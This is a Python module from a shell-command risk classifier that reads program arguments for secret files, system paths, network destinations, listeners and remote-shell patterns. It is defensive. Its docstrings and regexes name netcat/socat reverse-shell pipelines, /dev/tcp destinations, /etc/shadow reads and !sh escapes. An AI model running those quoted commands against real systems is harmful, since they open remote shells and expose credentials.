"""What a command can do, read from its arguments (tiers.md v3.2, "What a command can do, read from its
arguments"). These rules hold whatever the program and only ever raise a tier:

* the program's entry in the knowledge table (:mod:`core.policy._knowledge`): options whose value is a
  command, code, a file read, written or sent, a library, a host, a directory served; subcommands that
  listen or upload; programs that listen or connect;
* the generic net under the table, for programs no handler reads (and, for secrets, read-only programs that
  show what they read): a secret file among the arguments (MEDIUM; with a network destination in the same
  command HIGH), a path in a system directory (MEDIUM; as the value of an output-like option HIGH), a shell
  or interpreter named in an argument (MEDIUM, or the tier of its command when it is there to read; joined
  to a network destination HIGH: a remote shell), a listening address (MEDIUM; serving the root, a home or
  a system directory HIGH).

Entry point: :func:`read_arguments`, called by the dispatcher for every simple command after the program's
own handler. To add a rule for one program, add its entry to ``data/programs.toml``; the generic rules
below are the net for programs nobody listed (``docs/policy.md`` says where they may over-flag).
"""

from __future__ import annotations

import re

from core.policy import _knowledge as K
from core.policy import _paths as P
from core.policy import _tables as T
from core.tiers import Tier

S, L, M, H, C = Tier.SAFE, Tier.LOW, Tier.MEDIUM, Tier.HIGH, Tier.CRITICAL
MARK = P.UNKNOWN_MARK

#: how the dispatcher knows a program
UNKNOWN, READ_ONLY, HANDLED = 0, 1, 2

#: arguments of one command read by the generic rules (the rest only by the budgeted overflow scan)
MAX_ARGS = 64

#: shells and interpreters whose name in an argument means the program starts them
SHELL_NAMES = frozenset(T.SHELLS | set(T.INTERPRETERS) | {
    "tclsh", "wish", "expect", "python2.7", "python3.8", "python3.9", "python3.10", "python3.11", "python3.12",
    "python3.13", "perl5", "php-cli", "php7", "php8", "lua5.1", "lua5.2", "lua5.3", "lua5.4", "busybox-sh",
    "rc", "es", "elvish", "nu", "xonsh", "oil", "osh", "ysh", "jshell", "ghci", "irb", "pry", "rlwrap-sh",
})
#: programs that only name files (a secret path among their operands is not read): read-only metadata tools
METADATA_READERS = frozenset(T.SECRET_ECHOERS | {
    "md5sum", "md5", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "shasum", "b2sum", "cksum",
    "sum", "lsattr", "namei", "getfacl", "lsof", "fuser", "findmnt", "df", "du", "dust", "duf", "ncdu", "tree",
    "exa", "eza", "lsd", "dir", "vdir", "ll", "la", "type", "whereis", "whatis", "man", "info", "apropos",
    "tldr", "help", "hash", "locate", "mlocate", "plocate", "fd", "fdfind", "find", "ldd", "size",
})
#: option names (without leading dashes, lower case) whose value is a file or directory the program writes
OUTPUT_OPTION_WORDS = ("output", "out", "log", "dest", "target", "save", "dump", "export", "write", "outfile",
                       "logfile", "outdir", "prefix-out", "result", "report", "pid")
OUTPUT_SHORT = frozenset(("-o", "-O", "-w"))
#: option names (lower case, without dashes) whose value is a network destination
HOST_OPTION_WORDS = frozenset(("h", "host", "hostname", "server", "remote", "connect", "url", "uri", "endpoint",
                               "addr", "address", "target-host", "dest-host", "peer", "proxy"))
#: option names whose value is a directory a server serves
SERVE_OPTION_WORDS = frozenset(("directory", "dir", "docroot", "document-root", "root", "webroot", "serve",
                                "public", "static", "t", "d", "h"))

_URL = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{1,15}://[^\s/]")
_IPV4 = re.compile(r"(?<![\w.])(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?![\w.]|\.\d)")
_HOSTPORT = re.compile(r"(?<![\w.-])(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,24}:\d{1,5}(?!\w)")
_USERHOST = re.compile(r"(?<![\w.-])[A-Za-z0-9._-]+@(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,24}(?![\w-])")
_DEVTCP = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)/(\d+)")
#: relay addresses (socat, ncat --proxy …): a protocol, a colon, a host
_RELAY_CONNECT = re.compile(r"(?i)(?<![\w-])(?:tcp[46]?|udp[46]?|sctp[46]?|openssl|ssl|tcp-connect|udp-connect|"
                            r"tcp4-connect|tcp6-connect|socks4a?|socks5|proxy)(?:-connect)?:([^:,\s]+):(\d+)")
_RELAY_LISTEN = re.compile(r"(?i)(?<![\w-])(?:tcp[46]?|udp[46]?|sctp[46]?|openssl|ssl|unix|vsock)-(?:listen|l|"
                           r"recvfrom|recv)\b")
#: bind-all addresses: as an argument, an option value or before a port
_BIND_ALL = re.compile(r"(?:^|[=@\s])(?:0\.0\.0\.0|::|\[::\]|\*)(?::\d{1,5})?$")
_LOOPBACK = ("127.", "localhost", "::1", "[::1]", "0.0.0.0")
#: a word that starts a shell or interpreter inside an argument: after `!`, `:!`, `|`, `exec:`, `=`, quotes
_SHELL_IN = re.compile(r"(?i)(?:^|[!|=:\s'\"(`;,])(?:[\w./-]*/)?(" + "|".join(sorted(
    (re.escape(s) for s in SHELL_NAMES), key=len, reverse=True)) + r")(?=$|[\s'\"),;`&|])")
#: cheap test: an argument that may carry any of the generic signals
_HINT = re.compile(r"[/~:=@!|]|^\.|\d\.\d|\.(?:key|p12|pfx|jks|pem)$|^id_|^(?:" + "|".join(sorted(
    (re.escape(s) for s in SHELL_NAMES), key=len, reverse=True)) + r")$")


def _show(p: str) -> str:
    p = p.replace(MARK, "$…")
    return p if len(p) <= 60 else p[:57] + "…"


def network_destination(word: str) -> str | None:
    """The network destination a word names (``https://x``, ``203.0.113.7``, ``host.example.net:9001``,
    ``user@host.example.org``, ``/dev/tcp/HOST/PORT``, ``TCP:HOST:PORT``), or None; loopback is not one."""
    m = _DEVTCP.search(word)
    if word.startswith("//") and len(word) > 2 and word[2] not in "/.":
        dest = word[:60]
    elif m:
        dest = f"{m.group(1)}:{m.group(2)}"
    else:
        m = _RELAY_CONNECT.search(word)
        if m:
            dest = f"{m.group(1)}:{m.group(2)}"
        else:
            m = _URL.search(word) or _HOSTPORT.search(word) or _USERHOST.search(word)
            if m:
                dest = m.group(0)
            else:
                m = _IPV4.search(word)
                if m is None or any(int(x) > 255 for x in m.groups()):
                    return None
                dest = m.group(0)
                tail = word[m.end():m.end() + 6]
                if tail[:1] == ":" and tail[1:2].isdigit():
                    dest += ":" + "".join(ch for ch in tail[1:] if ch.isdigit())
    host = dest.split("://", 1)[-1].split("@")[-1]
    if host.startswith(_LOOPBACK):
        return None
    return dest[:60]


def _listening(word: str) -> bool:
    return _RELAY_LISTEN.search(word) is not None or _BIND_ALL.search(word) is not None


def shell_named(word: str) -> tuple[str, str] | None:
    """A shell or interpreter started by a word (``/bin/sh``, ``EXEC:'bash -li'``, ``!sh``, ``:!bash``,
    ``system("/bin/sh")``, ``--on-download-complete=sh``): (its name, the command text from it), or None."""
    m = _SHELL_IN.search(word)
    if m is None:
        return None
    start = m.start(1)
    # the path before the name belongs to the command (`/bin/sh -i`)
    while start > 0 and word[start - 1] not in "!|=: '\"(`;,":
        start -= 1
    end = len(word)
    for stop in ",'\")`;":
        k = word.find(stop, m.end(1))
        if 0 <= k < end:
            end = k
    return m.group(1).lower(), word[start:end].strip()


#: programs that connect a pipe to the network (a shell between two of them, or fed by one, is a remote shell)
NETWORK_CONNECTORS = frozenset(("nc", "ncat", "netcat", "socat", "telnet", "openssl", "gnutls-cli", "cryptcat",
                                "sbd", "pwncat", "rlwrap-nc", "nc.traditional", "nc.openbsd", "websocat", "sslclient",
                                "tcpclient", "mosquitto_sub", "ssh"))


def _destination_with_port(words: list) -> str | None:
    """The first network destination among ``words``, with the port that follows it (``nc HOST PORT``)."""
    for k, x in enumerate(words):
        d = network_destination(x)
        if d is not None:
            if ":" not in d and k + 1 < len(words) and words[k + 1].isdigit():
                d += ":" + words[k + 1]
            return d
    return None


def pipeline_remote_shell(words_per_stage: list, acc) -> None:
    """A pipeline joining a shell or interpreter to a network connector (``nc HOST PORT | sh | nc HOST PORT``,
    ``sh -i 2>&1 | nc HOST PORT``, ``openssl s_client … | sh``): a remote shell (HIGH). ``words_per_stage``:
    each stage's literal words (None for a word not known until run time)."""
    shell = net = None
    dest = None
    for words in words_per_stage:
        if not words or words[0] is None:
            continue
        w = words
        while w and w[0] in T.WRAPPERS and len(w) > 1:
            w = w[1:]
        prog = (w[0] or "").rsplit("/", 1)[-1]
        if prog in SHELL_NAMES or (prog.startswith("python") and prog[6:].replace(".", "").isdigit()):
            shell = shell or prog
        elif prog in NETWORK_CONNECTORS:
            net = net or prog
            if dest is None:
                dest = _destination_with_port([x for x in w[1:] if x])
    if shell and net:
        acc.add(H, "shell.remote_shell", f"starts a remote shell{' to ' + dest if dest else ''} ({shell} piped to {net})")


class _Facts:
    """What the arguments of one command say: each kind's first example (for the reason)."""

    __slots__ = ("secret", "system", "output", "shell", "net", "listen", "served")

    def __init__(self) -> None:
        self.secret = self.system = self.output = self.shell = self.net = self.listen = self.served = None


def _option_name(a: str) -> str:
    return a.lstrip("-").split("=", 1)[0].lower()


def _is_output_option(name: str, short: str) -> bool:
    if short in OUTPUT_SHORT:
        return True
    return any(name == w or name.startswith(w + "-") or name.startswith(w + "_") or name.endswith("-" + w) or
               name == w + "file" or name == w + "dir" or name == w + "-file" or name == w + "-dir"
               for w in OUTPUT_OPTION_WORDS)


def _path_class(r, word: str, ctx) -> str | None:
    """The path class of a word that names a path, or None."""
    if not word or MARK in word:
        return None
    c0 = word[0]
    if word.startswith("//"):
        return None  # a network share (//host/share), not a local path
    if c0 not in "/~." and "/" not in word and not word.startswith("id_") and not word.endswith(
            (".key", ".p12", ".pfx", ".jks", ".pem")):
        return None
    return r.pclass(word, ctx)


def _secretish(r, word: str, cls: str | None, ctx) -> bool:
    return cls in (P.SENSITIVE, P.ENV) or (cls is not None and P.is_secret_read(P.normalize(word, ctx.cwd)))


def _values(a: str) -> list:
    """The words an argument may name things with: itself, the value after ``=``, ``@file``, the parts of a
    relay address (``EXEC:…``, ``OPEN:/etc/shadow``, ``FILE:…``)."""
    out = [a]
    if "=" in a:
        out.append(a.split("=", 1)[1])
    if a[:1] == "@":
        out.append(a[1:])
    if ":" in a and a[:1].isalpha():
        head, _, rest = a.partition(":")
        if head.replace("-", "").isalpha() and len(head) <= 16 and rest[:1] != "/":
            out.extend(p for p in rest.split(",")[:4] if p)
        elif head.replace("-", "").isalpha() and len(head) <= 16:
            out.append(rest.split(",", 1)[0])
    return out


def read_arguments(r, prog: str, args: list, metas: list, ctx, acc, stdin, known: int) -> None:
    """Apply the knowledge table and the generic argument rules to one expanded simple command.

    ``args`` are the expanded arguments after the program name; ``known`` says how the dispatcher knows the
    program (UNKNOWN: no handler and not read-only; READ_ONLY; HANDLED: a handler read it). Raises tiers on
    ``acc`` only; never raises.
    """
    entry = K.PROGRAMS.get(prog)
    if entry is not None:
        _read_entry(r, prog, entry, args, ctx, acc, stdin)
        if entry.wraps is not None:
            return
    if known == HANDLED or not args:
        return
    if known == READ_ONLY:
        if prog not in T.CONTENT_READERS and prog not in METADATA_READERS:
            r.read_secret_check(prog, [a for a in args[:MAX_ARGS] if a and a[0] != "-"], ctx, acc)
        return
    _generic(r, prog, args, ctx, acc)


def _generic(r, prog: str, args: list, ctx, acc) -> None:
    _decide(r, prog, argument_facts(r, args, ctx), ctx, acc)


def argument_facts(r, args: list, ctx) -> _Facts:
    """What ``args`` name (each kind's first example): a secret file, a system path (and whether as the
    value of an output-like option), a shell, a network destination, a listening address, a served
    directory."""
    f = _Facts()
    prev_opt = None  # an option that may take the next word as its value
    for a in args[:MAX_ARGS]:
        if not a or _HINT.search(a) is None:
            prev_opt = a if a[:1] == "-" and "=" not in a else None
            continue
        is_opt = a[:1] == "-" and len(a) > 1
        opt_name = _option_name(a) if is_opt else (_option_name(prev_opt) if prev_opt else "")
        short = (a[:2] if is_opt else (prev_opt[:2] if prev_opt else ""))
        for v in _values(a):
            if not v:
                continue
            cls = _path_class(r, v, ctx)
            if cls is not None:
                if _secretish(r, v, cls, ctx):
                    f.secret = f.secret or v
                elif cls in (P.SYSTEM, P.SYSROOT, P.ROOT, P.BLOCKDEV, P.SYSRQ):
                    output = ((is_opt and "=" in a and v is not a) or (not is_opt and prev_opt)) and (
                        _is_output_option(opt_name, short))
                    if output:
                        f.output = f.output or (opt_name or short.lstrip("-"), v)
                    f.system = f.system or v
                if (opt_name in SERVE_OPTION_WORDS or short in ("-d", "-t", "-h")) and cls in (
                        P.ROOT, P.HOME, P.SYSROOT, P.SYSTEM) and (prev_opt or "=" in a):
                    f.served = f.served or v
            if f.shell is None:
                sh = shell_named(v)
                if sh is not None:
                    f.shell = sh
            if f.net is None:
                dest = network_destination(v)
                if dest is not None:
                    f.net = dest
            if f.listen is None and _listening(v):
                f.listen = v
        if f.net is None and not is_opt and prev_opt and _option_name(prev_opt) in HOST_OPTION_WORDS and (
                "." in a or a.isalpha()):
            f.net = a[:60]
        prev_opt = a if is_opt and "=" not in a else None
    return f


def _decide(r, prog: str, f: _Facts, ctx, acc) -> None:
    if f.secret is not None:
        if f.net is not None:
            acc.add(H, "args.secret_send", f"{prog} is given {_show(f.secret)} (secret) and {_show(f.net)}: "
                                           f"it may send the secret over the network")
        else:
            acc.add(M, "args.secret_read", f"{prog} is given {_show(f.secret)} (secret): it may read it")
    if f.output is not None:
        opt, path = f.output
        acc.add(H, "args.system_write", f"{prog} --{opt} writes into {_show(path)} (inside a system directory)")
    elif f.system is not None:
        acc.add(M, "args.system_path", f"{prog} is given {_show(f.system)} (system directory): it may change it")
    if f.shell is not None:
        name, text = f.shell
        if f.net is not None:
            acc.add(H, "args.remote_shell", f"{prog} joins {name} to {_show(f.net)} (a remote shell)")
        else:
            acc.add(M, "args.shell", f"{prog} starts {name}, which runs code that cannot be read here")
        if text and " " in text and MARK not in text:
            r.run_text(text, ctx.child(), acc)
    if f.listen is not None:
        if f.served is not None:
            acc.add(H, "args.serve_system", f"{prog} serves {_show(f.served)} to the network")
        else:
            acc.add(M, "args.listen", f"{prog} listens on the network ({_show(f.listen)})")


def _read_entry(r, prog: str, entry: K.Program, args: list, ctx, acc, stdin) -> None:
    """The knowledge table's entry for ``prog`` applied to its arguments."""
    if entry.wraps is not None:
        i, n = 0, len(args)
        while i < n:
            a = args[i]
            if a == "--":
                i += 1
                break
            if a[:1] != "-" or len(a) == 1:
                break
            i += 2 if ("=" not in a and entry.takes_value(a)) else 1
        i += entry.wraps
        if i < n:
            r.run_argv(args[i:], [None] * (n - i), ctx, acc, stdin)
        elif entry.wraps == 0:
            acc.add(L, "args.wrapper", f"{prog} with nothing to run")
        return
    if entry.listens:
        acc.add(M, "args.listen", f"{prog} is a server: it listens on the network")
    opts = entry.options
    pos: list = []
    i, n = 0, min(len(args), MAX_ARGS)
    while i < n:
        a = args[i]
        if a == "--":
            pos.extend(args[i + 1:n])
            break
        kind = None
        val = None
        if a[:1] in "-+" and len(a) > 1:
            if "=" in a and a.split("=", 1)[0] in opts:
                k, val = a.split("=", 1)
                kind = opts[k]
            elif a in opts:
                kind = opts[a]
                if kind not in K.FLAG_KINDS:
                    val = args[i + 1] if i + 1 < n else ""
                    i += 1
            elif len(a) > 2 and a[1] != "-" and a[:2] in opts and opts[a[:2]] not in K.FLAG_KINDS:
                kind, val = opts[a[:2]], a[2:]
            elif a[1] != "-" and a[1:].isalpha():
                for ch in a[1:]:  # a bundle of flags (-lvnp)
                    fk = opts.get("-" + ch)
                    if fk in K.FLAG_KINDS:
                        _effect(r, prog, "-" + ch, fk, None, ctx, acc, stdin)
                if entry.takes_value("-" + a[-1]):
                    i += 1
            elif entry.takes_value(a):
                i += 1
        else:
            pos.append(a)
        if kind is not None:
            _effect(r, prog, a.split("=", 1)[0] if val is not None and "=" in a else a, kind, val, ctx, acc, stdin)
        i += 1
    if pos and entry.subcommands:
        kind = entry.subcommands.get(pos[0])
        if kind == "command" and len(pos) > 1:
            r.run_argv(pos[1:], [None] * (len(pos) - 1), ctx, acc, stdin)
        elif kind == "upload" and len(pos) > 1:
            acc.add(M, "args.upload", f"{prog} {pos[0]} sends {_show(pos[1])} over the network")
            r.sends_secret(prog, pos[1], ctx, acc)
        elif kind is not None:
            _effect(r, prog, pos[0], kind, None, ctx, acc, stdin)
    if entry.operand is not None and pos and not (entry.subcommands and pos[0] in entry.subcommands):
        _effect(r, prog, "operand", entry.operand, pos[0], ctx, acc, stdin)


def _effect(r, prog: str, opt: str, kind: str, val, ctx, acc, stdin) -> None:
    """One option's (or operand's) effect, from its kind in the knowledge table."""
    what = f"{prog} {opt}" if opt != "operand" else prog
    if kind == "listen":
        acc.add(M, "args.listen", f"{what} listens on the network")
        return
    if kind == "bang":
        acc.add(M, "args.bang", f"{what} reads commands that can start a shell (!CMD)")
        return
    if val is None or val == "":
        return
    if kind == "command" or kind == "program":
        if MARK in val:
            acc.add(M, "args.command", f"{what} runs a command decided at run time")
            return
        acc.add(M if kind == "program" else S, "args.command", f"{what} runs {_show(val)}")
        r.run_text(val, ctx.child(), acc)
    elif kind.startswith("code:"):
        lang = kind[5:]
        acc.add(M, "args.inline_code", f"{what} runs inline {lang} code")
        read_code(r, val, lang, ctx, acc)
    elif kind.startswith("script:"):
        key = P.normalize(val, ctx.cwd) if MARK not in val else None
        if key is not None and key in ctx.written:
            acc.add(M, "args.script", f"{what} runs {kind[7:]} code written just before")
            read_code(r, ctx.written[key], kind[7:], ctx, acc)
        elif key is not None and key in ctx.downloaded:
            acc.add(H, "shell.download_exec", f"{what} runs the downloaded script {_show(val)}")
        else:
            acc.add(L, "args.script", f"{what} runs the {kind[7:]} script {_show(val)}")
    elif kind == "read":
        r.read_secret_check(what, [val], ctx, acc)
    elif kind == "write":
        r.write_path(val, ctx, acc, f"{what} writes")
    elif kind == "writedir":
        r.write_path(val.rstrip("/") + "/x" if val != "/" else "/x", ctx, acc, f"{what} writes into")
    elif kind == "upload":
        acc.add(M, "args.upload", f"{what} sends {_show(val)} over the network")
        r.sends_secret(prog, val, ctx, acc)
    elif kind == "library":
        acc.add(M, "args.library", f"{what} loads code from {_show(val)}")
    elif kind == "host":
        pass  # a destination: counted by the generic rules with what else the command names
    elif kind == "servedir":
        cls = r.pclass(val, ctx)
        if cls in (P.ROOT, P.HOME, P.SYSROOT, P.SYSTEM):
            acc.add(H, "args.serve_system", f"{what} serves {_show(val)} to the network")


#: languages :func:`core.policy._pycode.scan_code` reads by name
_SCANNED_LANGS = frozenset(("python", "perl", "ruby", "node", "php", "lua"))


def read_code(r, code: str, lang: str, ctx, acc) -> None:
    """Read inline ``code`` in ``lang`` (a knowledge-table language) for what it does: shell text as commands,
    the languages the code scanner knows through it, gdb and ex/vim command lines through their readers, SQL
    through the SQL rules; in any language, a shell named in it counts (MEDIUM; with a network destination
    in the same code HIGH: a remote shell)."""
    from core.policy import _shell  # (the reader's families import this module)

    if not code or MARK in code and len(code) < 2:
        return
    code = code[:16384]
    if lang == "sh":
        r.run_text(code, ctx.child(), acc)
        return
    if lang == "gdb":
        for line in code.split("\n")[:64]:
            c = line.strip()
            if c.startswith("!") or c.startswith("shell "):
                r.run_text(c[1:] if c.startswith("!") else c[6:], ctx.child(), acc)
            elif c.startswith("python ") or c.startswith("pi "):
                _shell._scan_code(r, c.split(" ", 1)[1], ctx, acc, "python")
            elif c:
                _shell._scan_code(r, c, ctx, acc, None)
        return
    if lang == "vim":
        r.ex_effects("vim", "-c", _shell._ex_effects(code), ctx, acc)
        return
    if lang == "sql":
        tier, rule, reason, _parsed = _shell.classify_sql(code)
        acc.add(tier, rule, reason)
        for cmd in _shell.sql_shell_commands(code)[:16]:
            r.run_text(cmd, ctx.child(), acc)
        return
    _shell._scan_code(r, code, ctx, acc, lang if lang in _SCANNED_LANGS else None)
    sh = shell_named(code)
    if sh is not None:
        dest = network_destination(code)
        if dest is not None:
            acc.add(H, "args.remote_shell", f"{lang} code joins {sh[0]} to {_show(dest)} (a remote shell)")
        else:
            acc.add(M, "args.shell", f"{lang} code starts {sh[0]}")


def served_dir(r, what: str, args: list, ctx, acc) -> None:
    """A server started by ``what`` (``python3 -m http.server``, ``php -S``): MEDIUM (it listens on the
    network); HIGH when the directory it serves (``--directory DIR``/``-d DIR``, else the working directory)
    is the root, a home directory or a system directory."""
    served = None
    for k, a in enumerate(args[:MAX_ARGS]):
        if a in ("--directory", "-d", "-t", "--docroot", "--root") and k + 1 < len(args):
            served = args[k + 1]
        elif a.startswith(("--directory=", "--docroot=", "--root=")):
            served = a.split("=", 1)[1]
    if served is None:
        served = ctx.cwd or "."
    cls = r.pclass(served, ctx) if MARK not in served else P.UNKNOWN
    if cls in (P.ROOT, P.HOME, P.SYSROOT, P.SYSTEM):
        acc.add(H, "args.serve_system", f"{what} serves {_show(served)} ({P.label(cls)}) to the network")
    else:
        acc.add(M, "args.listen", f"{what} listens on the network (a server)")


#: what a bare interpreter reads from its input: program -> language (the knowledge table adds more)
def _input_kind(prog: str, words: list) -> str | None:
    """What ``prog`` started with ``words`` (its options only) reads from its input, or None."""
    entry = K.PROGRAMS.get(prog)
    if entry is not None and entry.input is not None:
        return entry.input
    base = "python3" if prog.startswith("python") else prog
    if base in T.INTERPRETERS and all(w[:1] == "-" for w in words):
        return "code:" + T.INTERPRETER_LANGS.get(base, "other")
    return None


def read_interactive_input(r, text: str, ctx, acc) -> None:
    """Lines that follow an interactive program started on a line of its own are its input (tiers.md v3.2,
    "Interactive shells and interpreters"): read as code in its language, as its own commands (``!CMD`` runs
    CMD) or as SQL. Shell lines are read as shell anyway (the walker reads every line)."""
    if "\n" not in text:
        return
    lines = text.split("\n")
    for k, line in enumerate(lines[:-1]):
        words = line.split()
        if not words or len(words) > 8:
            continue
        if words[0] in T.WRAPPERS and len(words) > 1:
            words = words[1:]
        prog = words[0].rsplit("/", 1)[-1]
        kind = _input_kind(prog, words[1:])
        if kind is None:
            continue
        rest = "\n".join(lines[k + 1:k + 257])
        if kind.startswith("code:"):
            read_code(r, rest, kind[5:], ctx, acc)
        elif kind == "bang":
            for cmd in _bang_lines(rest):
                acc.add(M, "args.bang", f"{prog} is told to run {_show(cmd)} (!CMD)")
                r.run_text(cmd, ctx.child(), acc)
        elif kind == "sql":
            read_code(r, rest, "sql", ctx, acc)
        return


def _bang_lines(text: str) -> list:
    """Commands typed into an interactive program as ``!CMD`` (ftp, gdb, less, man, mail …), ``:!CMD`` (vi),
    ``\\!CMD`` (psql), ``.shell CMD``/``.system CMD`` (sqlite3), ``system CMD`` (mysql), ``shell CMD`` (gdb)."""
    out = []
    for line in text.split("\n")[:256]:
        s = line.strip()
        for prefix in ("!", ":!", "\\!", ":shell ", ".shell ", ".system ", "system ", "shell ", "~!", ":sh"):
            if s.startswith(prefix) and len(s) > len(prefix):
                cmd = s[len(prefix):].strip() or "sh"
                out.append(cmd)
                break
        else:
            if s in (":shell", ":sh", "!", "shell", "~!"):
                out.append("sh")
    return out[:32]
